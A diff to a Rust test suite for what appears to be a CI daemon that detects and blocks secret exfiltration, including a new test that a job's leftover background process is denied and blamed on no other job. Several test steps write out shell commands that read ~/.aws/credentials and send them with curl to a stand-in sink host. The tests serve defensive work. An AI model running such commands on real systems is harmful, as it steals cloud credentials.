@@ -211,20 +211,22 @@ fn a_job_that_runs_already_is_not_seen_whole() -> Result {
 #[test]
 fn the_next_daemon_goes_on_with_the_job() -> Result {
     let scene = Scene::new()?;
-    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
+    let daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
     let runner = Runner::new()?;
-    let (first, second) = (runner.path().join("first"), runner.path().join("second"));
-    for gate in [&first, &second] {
+    let [held, first, second] = ["held", "first", "second"].map(|name| runner.path().join(name));
+    for gate in [&held, &first, &second] {
         assert!(Command::new("mkfifo").arg(gate).status()?.success());
     }
     // Holds the key before, and sends it while nobody is there and again later.
     let steps = [
         "true",
-        "key=$(cat ~/.aws/credentials); : > first; echo \"$key\" | curl -s --max-time 5 --data-binary @- http://$SINK/x; \
+        "key=$(cat ~/.aws/credentials); : > held; : > first; echo \"$key\" | curl -s --max-time 5 --data-binary @- http://$SINK/x; \
          : > second; echo \"$key\" | curl -s --max-time 5 --data-binary @- http://$SINK/x; true",
     ];
     let mut child = runner.job(&scene, &steps)?;
-    daemon.wait_for(" began: ")?;
+    std::fs::read(&held)?;
+    // What it saw until now it has written by the time it answers: what is killed before is lost.
+    daemon.ask("flush")?;
     daemon.signal(rustix::process::Signal::KILL)?;
     let (_, files) = daemon.killed()?;
     std::fs::read(&first)?;
@@ -244,5 +246,34 @@ fn the_next_daemon_goes_on_with_the_job() -> Result {
     assert_eq!(honest.conclusion.verdict, Verdict::Pass, "{:#?}", honest.conclusion);
     assert!(honest.number > job.number);
     assert_eq!(daemon.end()?.0, Some(0));
+    Ok(())
+}
+
+/// What a job left behind tries after its end is denied, and no other job is charged with it.
+#[test]
+fn what_is_left_of_a_job_is_no_other_jobs() -> Result {
+    let scene = Scene::new()?;
+    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
+    let runner = Runner::new()?;
+    let [late, done, gate] = ["late", "done", "gate"].map(|name| runner.path().join(name));
+    for gate in [&late, &done, &gate] {
+        assert!(Command::new("mkfifo").arg(gate).status()?.success());
+    }
+    let left = format!(
+        "(key=$(cat ~/.aws/credentials); : < late; {}; : > done) & true",
+        THEFT.replace("cat ~/.aws/credentials", "echo \"$key\"")
+    );
+    runner.job(&scene, &[&left])?.wait()?;
+    daemon.next_job()?;
+    // Another job runs while it happens.
+    let mut other = runner.job(&scene, &[": > gate", HONEST])?;
+    std::fs::write(&late, "")?;
+    std::fs::read(&done)?;
+    daemon.wait_for("tried to send a secret")?;
+    std::fs::read(&gate)?;
+    other.wait()?;
+    let honest = daemon.next_job()?;
+    assert_eq!(honest.conclusion.verdict, Verdict::Pass, "{:#?}", honest.conclusion);
+    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
     Ok(())
 }
